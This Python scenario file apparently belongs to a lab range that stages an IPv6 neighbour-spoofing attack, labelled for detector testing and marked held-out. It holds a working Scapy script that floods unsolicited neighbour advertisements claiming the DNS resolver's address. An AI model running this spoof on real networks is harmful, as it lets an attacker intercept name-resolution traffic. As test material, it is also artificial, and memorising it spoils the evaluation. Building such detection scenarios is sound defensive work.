"""Unasked advertisements to all nodes: the resolver's IPv6 address is at the attacker."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
me, claimed, times = sys.argv[1], sys.argv[2], int(sys.argv[3])
frame = Ether(src=me, dst="33:33:00:00:00:01") / IPv6(src=claimed, dst="ff02::1", hlim=255)
frame /= ICMPv6ND_NA(R=0, S=0, O=1, tgt=claimed) / ICMPv6NDOptDstLLAddr(lladdr=me)
for _ in range(times):
    sendp(frame)
    time.sleep(2.5)
"""


def run(net: Range) -> None:
    attacker, names, pc3 = net.inside("pc4"), net.names(), net.inside("pc3")
    attacker.sysctl(net__ipv6__conf__all__forwarding="1")
    net.everyday()
    net.loop(net.inside("pc1"), f"dig +tries=1 +timeout=2 @{names.ip6} web.range.example AAAA", 0.9)
    net.loop(pc3, f"ip -6 neigh flush dev eth0; ping -6 -n -q -c 1 -W 1 {names.ip6}", 2.3)
    net.loop(attacker, f"curl -s -m 3 -o /dev/null -g http://[{net.web().ip6}]/", 1.5)
    net.quiet(6)
    with net.attack(
        "neighbor-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[names.ip6],
        others={"claimed": [names.ip6]},
        frames=f"ip6 and ip6[6] == 58 and ip6[40] == 136 and ip6 src host {names.ip6}",
    ):
        net.scapy(attacker, PROGRAM, attacker.mac, names.ip6, "7", seconds=24)
    net.quiet(3)


SCENARIO = Scenario(
    name="neighbor-spoofing-held-resolver",
    about="A station tells all nodes seven times, unasked, that the resolver's IPv6 address is its own.",
    detectors=("neighbor-spoofing",),
    held_out=True,
    run=run,
)
